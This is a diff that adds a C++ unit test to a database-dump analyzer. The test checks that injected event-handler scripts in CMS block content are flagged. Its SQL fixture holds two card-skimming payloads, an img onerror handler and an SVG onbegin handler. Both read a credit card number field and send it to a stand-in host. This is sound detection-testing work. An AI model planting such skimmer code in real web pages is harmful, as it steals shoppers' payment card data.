@@ -8,6 +8,7 @@
 
 #include "storedb/classify.h"
 #include "storedb/storedb.h"
+#include "storedb/stored_dump_testing.h"
 #include "support/testing.h"
 
 namespace tq::storedb {
@@ -447,6 +448,25 @@ TEST(StoreDbMysql, DsnParsing) {
   EXPECT_FALSE(ParseMysqlDsn("host=x;user=a;database=b;password=secret").ok());
   EXPECT_FALSE(ParseMysqlDsn("host=x;port=99999;user=a;database=b").ok());
   EXPECT_FALSE(ParseMysqlDsn("host=x;database=b").ok());
+}
+
+// Markup the row judgement reads: an event handler written with spaces before its '=', and
+// a handler on an SVG element other than <svg onload>; a price text with an '=' is not.
+TEST(StoreDbAnalyzer, HandlersWithSpacesAndSvgElementsAreCandidates) {
+  StoredDump d(R"SQL(CREATE TABLE `cms_block` (`block_id` int NOT NULL, `title` varchar(255),
+ `identifier` varchar(255), `content` mediumtext, `creation_time` timestamp NULL,
+ `update_time` timestamp NULL, `is_active` smallint, PRIMARY KEY (`block_id`));
+INSERT INTO `cms_block` VALUES (1,'f','footer','<img src=x onerror = \"var n=document.querySelector(\'[name*=cc_number]\').value; new Image().src=\'https://pixel.example.top/p?d=\'+btoa(n);\">','2026-01-01 00:00:00','2026-01-02 00:00:00',1);
+INSERT INTO `cms_block` VALUES (2,'p','promo','<svg width=1><animate attributeName=x onbegin = \"var n=document.querySelector(\'[name*=cc_number]\').value; navigator.sendBeacon(\'https://pixel.example.top/b\', n);\"/></svg>','2026-01-01 00:00:00','2026-01-02 00:00:00',1);
+INSERT INTO `cms_block` VALUES (3,'a','about','<p>Sale: 2 for 1 = on offer</p>','2026-01-01 00:00:00','2026-01-02 00:00:00',1);
+)SQL",
+               "t");
+  Result<AnalyzeSummary> s = AnalyzeDumpEvidence(*d.c, d.item, AnalyzeOptions());
+  ASSERT_TRUE(s.ok()) << s.status().ToString();
+  EXPECT_THAT(Query(d.c->db(),
+                    "SELECT json_extract(detail,'$.pk') FROM findings WHERE "
+                    "kind='storedb.injected_script' AND severity IN ('high','critical')"),
+              UnorderedElementsAre("{\"block_id\":1}", "{\"block_id\":2}"));
 }
 
 }  // namespace
